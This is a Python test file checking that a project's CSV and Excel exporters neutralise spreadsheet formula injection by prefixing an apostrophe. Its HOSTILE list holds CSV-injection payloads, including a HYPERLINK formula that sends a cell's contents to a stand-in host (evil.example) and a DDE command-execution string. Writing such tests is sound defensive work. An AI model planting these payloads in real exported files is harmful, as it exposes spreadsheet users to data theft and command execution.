"""Files people open in a spreadsheet never carry a live formula (issue 20, item 5): CSV
cells that would run are neutralised with a leading apostrophe (OWASP's CSV injection
advice), and workbooks write text as text."""

import io
import zipfile

import polars as pl
import pytest

from municipium.lib.tabular import csv_bytes, neutralise, to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&C2,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd", "\t=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-2.5", "+3", "-1e-3", "water billed", "Kruševac", "", "2024Q1", "a=b"])
def test_numbers_and_plain_text_pass_unchanged(text):
    assert neutralise(text) == text


def test_the_frame_writer_neutralises_text_cells_and_keeps_numbers():
    frame = pl.DataFrame({"comment": [HOSTILE[0], "fine", None], "value": [-2.5, 1.0, None]})
    text = to_csv(frame).decode("utf-8")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text
    assert "-2.5" in text and "'-2.5" not in text


def test_the_row_writer_neutralises_every_text_cell():
    text = csv_bytes([["address", "link"], [HOSTILE[0], "https://example.org/s/x/"]], delimiter=";").decode()
    assert text.splitlines()[1].startswith("\"'=HYPERLINK")


def _formulas(xlsx: bytes) -> list[str]:
    """The sheets' formula elements: none may exist in a file we hand out."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        return [name for name in book.namelist() if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)]


def test_the_workbook_writer_writes_text_as_text():
    assert _formulas(to_xlsx({"x": pl.DataFrame({"comment": HOSTILE})})) == []


@pytest.mark.django_db
def test_the_entry_template_writes_a_hostile_unit_name_as_text():
    from municipium.observations import workbooks
    from tests import factories as f

    f.variable("water_billed", area=f.service_area("water"))
    unit = f.unit("RS-EVIL", {"en": '=HYPERLINK("http://evil.example","Click")'})
    data = workbooks.build_template(unit, "2025", ["water"], language="en")
    assert _formulas(data) == []


@pytest.mark.django_db
def test_the_survey_mail_merge_files_keep_an_address_as_text():
    from municipium.surveys import links

    rows = [["address", "stratum", "personal link"], [HOSTILE[0], "a", "https://example.org/s/token/"]]
    assert "'=HYPERLINK" in links.as_csv(rows).decode("utf-8-sig")
    assert _formulas(links.as_xlsx(rows)) == []
